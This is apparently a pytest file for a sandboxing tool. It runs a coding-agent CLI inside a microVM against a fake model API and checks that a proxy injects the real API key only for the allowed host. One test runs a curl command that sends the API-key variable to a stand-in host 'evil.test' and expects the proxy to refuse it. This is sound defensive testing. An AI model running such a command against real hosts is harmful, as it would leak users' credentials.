"""A coding agent CLI from npm, in a microVM built from a template (issue 15).

The CLI is Claude Code (``@anthropic-ai/claude-code``, the version pinned in
``coding_cli/recipe.toml``), installed by a recipe ``FROM base`` whose one
RUN step is ``npm install -g``, with the npm registry as its only network.
The template is built once and kept in the store; it is rebuilt only when
the recipe or ``base`` changes (the template's metadata keeps the recipe's
sha256 and the base's digest).

The model is a fake Messages API on 127.0.0.1 (``fake_model``): it answers a
bounded number of requests, within a time limit, with streamed events, and
makes the CLI call its ``Write`` tool once, then end with a fixed answer.

Harmless: the CLI runs in a ``risk = "high"`` sandbox (the microVM boots the
template as its root image) whose only network is the fake API's host; the
sandbox's ``ANTHROPIC_API_KEY`` holds only the placeholder, the proxy puts
the real key in ``x-api-key``.  The CLI exits 0, prints the model's answer,
the file the tool call wrote is in /workspace, the server saw the real key
on every request, and the audit log has the injection and each use.
Malicious, in the same kind of sandbox: the CLI pointed at another host,
and curl sending the placeholder there, are refused by the proxy with the
rule ``network.allow``; the other host never sees a request; ``env`` shows
the placeholder, never the key.  The same pair runs on the namespaces tier.
"""

from __future__ import annotations

import contextlib
import dataclasses
import http.server
import ipaddress
import json
import os
import shutil
import socket
import socketserver
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from conftest import records
from glassroom import Sandbox
from glassroom.egress import HostsResolver, NetworkOptions
from glassroom.egress.testing import TestCA
from glassroom.templates import TemplateStore, build, load_recipe
from glassroom.templates._recipe import Recipe, Step

RECIPE = Path(__file__).parent / "coding_cli" / "recipe.toml"
TEMPLATE = "coding-cli"
BASE = "base"
API_HOST, OTHER_HOST = "api.test", "evil.test"  # both 127.0.0.1, in the proxy's hosts map
SECRET = "sk-ant-glassroom-real-key-7d1f0c9e4b2a"  # what the host issues
KEY_ENV = "GLASSROOM_TEST_ANTHROPIC_KEY"  # the supervisor's own variable (the source)
ANSWER = "FAKE-MODEL-ANSWER: the file is written."
WRITTEN = "hello from the fake model\n"
#: Under TCG each instruction of node is emulated: parsing the CLI's 10 MB
#: bundle alone takes a while.  Generous, and bounded.
RUN_TIMEOUT_S = 420.0
TIERS = ["microvm", "namespaces"]
TOOLS = ["claude", "node", "env", "sh", "bash", "cat", "ls", "curl", "git", "uname", "which"]


# -- the fake model API ---------------------------------------------------------------


def _sse(events: list[dict[str, Any]]) -> bytes:
    return b"".join(f"event: {e['type']}\ndata: {json.dumps(e)}\n\n".encode() for e in events)


def _message(blocks: list[dict[str, Any]], stop: str, model: str) -> list[dict[str, Any]]:
    """A streamed Messages API answer: each block as start, one delta, stop."""
    out: list[dict[str, Any]] = [{"type": "message_start", "message": {
        "id": f"msg_fake_{time.monotonic_ns()}", "type": "message", "role": "assistant",
        "model": model, "content": [], "stop_reason": None, "stop_sequence": None,
        "usage": {"input_tokens": 12, "output_tokens": 1}}}]  # fmt: skip
    for i, b in enumerate(blocks):
        start: dict[str, Any]
        if b["type"] == "text":
            start, delta = {"type": "text", "text": ""}, {"type": "text_delta", "text": b["text"]}
        else:
            start = {"type": "tool_use", "id": b["id"], "name": b["name"], "input": {}}
            delta = {"type": "input_json_delta", "partial_json": json.dumps(b["input"])}
        out += [{"type": "content_block_start", "index": i, "content_block": start},
                {"type": "content_block_delta", "index": i, "delta": delta},
                {"type": "content_block_stop", "index": i}]  # fmt: skip
    out += [{"type": "message_delta", "delta": {"stop_reason": stop, "stop_sequence": None},
             "usage": {"output_tokens": 9}}, {"type": "message_stop"}]  # fmt: skip
    return out


class _ModelHandler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: _ModelServer

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def _reply(self, status: int, body: bytes, ctype: str) -> None:
        self.send_response(status)
        self.send_header("content-type", ctype)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self) -> None:
        self._handle(b"")

    def do_HEAD(self) -> None:
        self._handle(b"")

    def do_POST(self) -> None:
        n = int(self.headers.get("content-length") or 0)
        self._handle(self.rfile.read(min(n, 8 << 20)))

    def _handle(self, raw: bytes) -> None:
        srv = self.server
        with srv.lock:
            srv.seen.append({"method": self.command, "path": self.path,
                             "headers": {k.lower(): v for k, v in self.headers.items()}})  # fmt: skip
            over = len(srv.seen) > srv.max_requests or time.monotonic() > srv.deadline
        if over:  # bounded: a CLI that loops gets an error, not an answer
            self.close_connection = True
            self._reply(529, b'{"type":"error","error":{"type":"overloaded_error",'
                        b'"message":"the fake model is done"}}', "application/json")  # fmt: skip
            return
        if self.headers.get("x-api-key") != srv.key:  # only the real key gets an answer
            self._reply(401, b'{"type":"error","error":{"type":"authentication_error",'
                        b'"message":"invalid x-api-key"}}', "application/json")  # fmt: skip
            return
        path = self.path.split("?", 1)[0]
        if self.command != "POST" or not path.startswith("/v1/messages"):
            self._reply(404, b'{"type":"error","error":{"type":"not_found_error",'
                        b'"message":"not in the fake"}}', "application/json")  # fmt: skip
            return
        body = json.loads(raw or b"{}")
        if path == "/v1/messages/count_tokens":
            self._reply(200, b'{"input_tokens": 12}', "application/json")
            return
        self._reply(200, *self._answer(body))

    def _answer(self, body: dict[str, Any]) -> tuple[bytes, str]:
        srv = self.server
        model = str(body.get("model") or "claude-fake")
        tools = {t.get("name") for t in body.get("tools") or [] if isinstance(t, dict)}
        msgs = body.get("messages") or []
        last = msgs[-1].get("content") if msgs and isinstance(msgs[-1], dict) else None
        answered = isinstance(last, list) and any(
            isinstance(c, dict) and c.get("type") == "tool_result" for c in last)  # fmt: skip
        if "Write" in tools and not answered:  # the agent's turn: one tool call
            with srv.lock:
                srv.tool_calls += 1
            call = {"file_path": "/workspace/hello.txt", "content": WRITTEN}
            blocks: list[dict[str, Any]] = [
                {"type": "text", "text": "Writing the file."},
                {"type": "tool_use", "id": "toolu_fake_1", "name": "Write", "input": call},
            ]
            events = _message(blocks, "tool_use", model)
        else:  # after the tool ran, and any side request (titles, checks): text
            events = _message([{"type": "text", "text": ANSWER}], "end_turn", model)
        if body.get("stream"):
            return _sse(events), "text/event-stream"
        stop = events[-2]["delta"]["stop_reason"]
        msg: dict[str, Any] = events[0]["message"] | {"content": [], "stop_reason": stop}
        for e in events:
            if e["type"] == "content_block_start":
                msg["content"].append(dict(e["content_block"]))
            elif e["type"] == "content_block_delta":
                cur, d = msg["content"][-1], e["delta"]
                if d["type"] == "text_delta":
                    cur["text"] += d["text"]
                else:
                    cur["input"] = json.loads(d["partial_json"])
        return json.dumps(msg).encode(), "application/json"


class _ModelServer(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True

    def __init__(self, key: str, max_requests: int, time_limit_s: float, tls: TestCA) -> None:
        super().__init__(("127.0.0.1", 0), _ModelHandler)
        self.socket = tls.server_context().wrap_socket(self.socket, server_side=True)
        self.key, self.max_requests = key, max_requests
        self.deadline = time.monotonic() + time_limit_s
        self.lock = threading.Lock()
        self.seen: list[dict[str, Any]] = []
        self.tool_calls = 0

    def server_bind(self) -> None:  # no getfqdn lookup
        socketserver.TCPServer.server_bind(self)
        self.server_name, self.server_port = "localhost", self.server_address[1]


@contextlib.contextmanager
def fake_model(key: str, tls: TestCA, max_requests: int = 40,
               time_limit_s: float = 900) -> Iterator[_ModelServer]:  # fmt: skip
    """The fake Messages API, HTTPS on 127.0.0.1 (a certificate of ``tls``):
    at most ``max_requests`` answers, none after ``time_limit_s``; stopped on exit."""
    srv = _ModelServer(key, max_requests, time_limit_s, tls)
    t = threading.Thread(target=srv.serve_forever, kwargs={"poll_interval": 0.2}, daemon=True)
    t.start()
    try:
        yield srv
    finally:
        srv.shutdown()
        srv.server_close()
        t.join(timeout=10)


# -- the template ---------------------------------------------------------------------


def _default_store() -> Path:
    """The store `glassroom template list` shows (the test session points the
    audit log elsewhere; templates are kept between sessions)."""
    env = os.environ.get("GLASSROOM_TEMPLATE_DIR")
    if env:
        return Path(env)
    if os.geteuid() == 0:
        return Path("/var/lib/glassroom/templates")
    state = os.environ.get("XDG_STATE_HOME") or os.path.expanduser("~/.local/state")
    return Path(state) / "glassroom" / "templates"


def _for_this_host(recipe: Recipe, ctx: Path) -> Recipe:
    """The recipe as this host can build it, the tree unchanged.

    Where the registry's name resolves to an address that is not public (a
    mirror of the registry on the host's own network, that terminates TLS
    with a CA of the host's trust store), the build needs that address named
    in its network list (the proxy refuses unnamed private and reserved
    ranges, docs/network.md) and npm needs that CA (node trusts only its own
    list).  Both are the operator's statements about this host, not part of
    the recipe: the host's CA bundle is copied in for the npm step
    (``NODE_EXTRA_CA_CERTS``) and removed by a last step.
    """
    extra: list[str] = []
    for entry in recipe.network:
        host, _, port = entry.rpartition(":") if entry.count(":") == 1 else (entry, "", "")
        try:
            infos = socket.getaddrinfo(host, int(port or 443), type=socket.SOCK_STREAM)
        except OSError:
            continue
        for addr in {str(i[4][0]) for i in infos}:
            if not ipaddress.ip_address(addr).is_global:
                extra.append(f"{addr}:{port}" if port else addr)
    if not extra:
        return recipe
    bundle = Path("/etc/ssl/certs/ca-certificates.crt")
    ca = "/usr/local/share/glassroom-build-host-ca.pem"
    shutil.copyfile(bundle, ctx / "host-ca.pem")
    steps: list[Step] = [Step("copy", "host: CA", sources=["host-ca.pem"], dest=ca)]
    for s in recipe.steps:
        if s.kind == "run":
            s = Step("run", s.where, argv=["env", f"NODE_EXTRA_CA_CERTS={ca}", *s.argv])
        steps.append(s)
    steps.append(Step("run", "host: CA", argv=["rm", "-f", ca]))
    # (None: the default build tools, which have env and rm)
    tools = None if recipe.tools is None else list(dict.fromkeys([*recipe.tools, "env", "rm"]))
    return dataclasses.replace(recipe, steps=steps, context=ctx, tools=tools,
                               network=[*recipe.network, *extra])  # fmt: skip


@pytest.fixture(scope="module")
def template() -> Iterator[str]:
    """``coding-cli`` in the default store, built only when missing or stale."""
    store_dir = _default_store()
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("GLASSROOM_TEMPLATE_DIR", str(store_dir))
        store = TemplateStore(store_dir)
        try:
            base = store.get(BASE)
        except Exception as exc:
            pytest.skip(f"no {BASE!r} template in {store_dir} (glassroom template builtin): {exc}")
        recipe = load_recipe(RECIPE)
        try:
            t = store.get(TEMPLATE)
            src = t.meta.source
            current = src.get("recipe_digest") == recipe.digest and src.get("from") == base.digest
        except Exception:
            current = False
        if not current:
            ctx = Path(tempfile.mkdtemp(prefix="glassroom-coding-cli-"))
            try:
                t0 = time.monotonic()
                build(_for_this_host(recipe, ctx), store, TEMPLATE,
                      audit_log=ctx / "build.jsonl")  # fmt: skip
                print(f"built {TEMPLATE} in {time.monotonic() - t0:.1f} s")
            finally:
                shutil.rmtree(ctx, ignore_errors=True)
        yield TEMPLATE


# -- the sandbox ----------------------------------------------------------------------


def _policy(tier: str, port: int) -> dict[str, Any]:
    pol: dict[str, Any] = {
        "template": TEMPLATE,
        "tools": {"allow": TOOLS},
        # The CLI's HTTP client tunnels even http:// through CONNECT, so the
        # API is HTTPS and the proxy inspects it: it sees the header to swap.
        "network": {"allow": [f"{API_HOST}:{port}"],
                    "rules": [{"host": API_HOST, "inspect_tls": True}]},
        "credentials": [{"name": "anthropic", "source": f"env:{KEY_ENV}", "inject": "proxy",
                         "hosts": [f"{API_HOST}:{port}"], "header": "x-api-key: {secret}",
                         "env": "ANTHROPIC_API_KEY"}],
        "resources": {"memory_mib": 1536, "max_runtime_s": 1800},
    }  # fmt: skip
    if tier == "microvm":
        pol["risk"] = "high"
    return pol


def _cli_env(base_url: str) -> dict[str, str]:
    return {
        "ANTHROPIC_BASE_URL": base_url,
        "ANTHROPIC_MODEL": "claude-sonnet-4-5",
        # nothing but the model API: no update check, telemetry or error reports
        "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC": "1",
        "DISABLE_AUTOUPDATER": "1",
        "DISABLE_TELEMETRY": "1",
        "DISABLE_ERROR_REPORTING": "1",
    }


def _claude(prompt: str) -> list[str]:
    return ["claude", "-p", prompt, "--allowedTools", "Write", "--output-format", "text"]


@pytest.fixture(params=TIERS)
def tier(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture(scope="module")
def tls() -> Iterator[TestCA]:
    ca = TestCA([API_HOST, OTHER_HOST])
    yield ca
    ca.cleanup()


def _net(tls: TestCA) -> NetworkOptions:
    return NetworkOptions(resolver=HostsResolver({API_HOST: "127.0.0.1", OTHER_HOST: "127.0.0.1"}),
                          upstream_ca=tls.ca_file)  # fmt: skip


def test_the_cli_works_with_the_key_the_proxy_injects(
    template: str, tier: str, tls: TestCA, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(KEY_ENV, SECRET)
    monkeypatch.setenv("GLASSROOM_TEMPLATE_DIR", str(_default_store()))
    log = tmp_path / "audit.jsonl"
    with fake_model(SECRET, tls) as model:
        url = f"https://{API_HOST}:{model.server_address[1]}"
        t0 = time.monotonic()
        with Sandbox(_policy(tier, model.server_address[1]), backend=tier, audit_log=log,
                     network=_net(tls)) as sb:  # fmt: skip
            started = time.monotonic() - t0
            env = sb.run(["env"])
            r = sb.run(_claude("Write hello.txt in /workspace, then say what you did."),
                       env=_cli_env(url), timeout_s=RUN_TIMEOUT_S)  # fmt: skip
            ran = time.monotonic() - t0 - started
            wrote = sb.run(["cat", "/workspace/hello.txt"])
            sid = sb.id
        print(f"{tier}: sandbox {started:.1f} s, claude -p {ran:.1f} s; the model got",
              [f"{x['method']} {x['path']}" for x in model.seen])  # fmt: skip
    assert r.exit_code == 0, (r.stdout, r.stderr, model.seen)
    assert ANSWER in r.stdout
    assert wrote.exit_code == 0 and wrote.stdout == WRITTEN
    # the sandbox holds only the placeholder, in the variable the CLI reads
    got = dict(line.split("=", 1) for line in env.stdout.splitlines() if "=" in line)
    ph = got["ANTHROPIC_API_KEY"]
    assert ph.startswith("glsr-") and len(ph) == len(SECRET)
    assert SECRET not in env.stdout + r.stdout + r.stderr
    # every request the model got carried the real key, none the placeholder
    posts = [s for s in model.seen if s["method"] == "POST"]
    assert posts and model.tool_calls == 1
    assert all(s["headers"].get("x-api-key") == SECRET for s in model.seen), model.seen
    assert not any(ph in json.dumps(s["headers"]) for s in model.seen)
    recs = records(log, sid)
    injected = [x for x in recs if x["event"] == "credential.injected"]
    assert [x["details"]["where"] for x in injected] == [
        "ANTHROPIC_API_KEY (placeholder; the proxy adds the value)"]  # fmt: skip
    used = [x for x in recs if x["event"] == "credential.used"]
    assert len(used) == len(model.seen)
    assert {(x["details"]["host"], x["decision"], x["rule"]) for x in used} == {
        (API_HOST, "allow", "credentials[0]")}  # fmt: skip
    assert SECRET not in log.read_text()
    created = next(x for x in recs if x["event"] == "sandbox.created")
    assert created["details"]["template"].startswith(f"{TEMPLATE}@sha256:")


def test_another_host_is_refused_and_gets_nothing(
    template: str, tier: str, tls: TestCA, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The same sandbox, the CLI pointed at a host the policy does not list
    (it resolves to the same fake server): the proxy refuses it, naming
    network.allow, and the server sees no request; curl with the placeholder
    there gets the proxy's 403 with the rule."""
    monkeypatch.setenv(KEY_ENV, SECRET)
    monkeypatch.setenv("GLASSROOM_TEMPLATE_DIR", str(_default_store()))
    log = tmp_path / "audit.jsonl"
    with fake_model(SECRET, tls) as model:
        port = model.server_address[1]
        other = f"https://{OTHER_HOST}:{port}"
        with Sandbox(_policy(tier, port), backend=tier, audit_log=log, network=_net(tls)) as sb:
            env = sb.run(["env"])
            r = sb.run(_claude("Say hi."), env=_cli_env(other) | {"CLAUDE_CODE_MAX_RETRIES": "0"},
                       timeout_s=RUN_TIMEOUT_S)  # fmt: skip
            c = sb.run(["sh", "-c", f'curl -sS -i -m 30 -H "x-api-key: $ANTHROPIC_API_KEY" '
                                    f"http://{OTHER_HOST}:{port}/v1/messages -d '{{}}'"])  # fmt: skip
            sid = sb.id
    assert r.exit_code != 0, (r.stdout, r.stderr)
    assert ANSWER not in r.stdout
    assert model.seen == []  # the other host got nothing, the real key went nowhere
    assert c.stdout.startswith("HTTP/1.1 403"), (c.stdout, c.stderr)
    assert "x-glassroom-rule: network.allow" in c.stdout
    ph = dict(line.split("=", 1) for line in env.stdout.splitlines() if "=" in line)[
        "ANTHROPIC_API_KEY"]  # fmt: skip
    assert ph.startswith("glsr-") and SECRET not in env.stdout + r.stdout + r.stderr + c.stdout
    recs = records(log, sid)
    denied = [x for x in recs if x["event"] == "network.request" and x["decision"] == "deny"]
    assert denied and {(x["details"]["host"], x["rule"]) for x in denied} == {
        (OTHER_HOST, "network.allow")}  # fmt: skip
    # the CLI's tunnel (CONNECT) and curl's plain request, each refused
    assert {x["details"]["kind"] for x in denied} == {"connect", "http"}
    assert not [x for x in recs if x["event"] == "credential.used"]
    assert SECRET not in log.read_text()
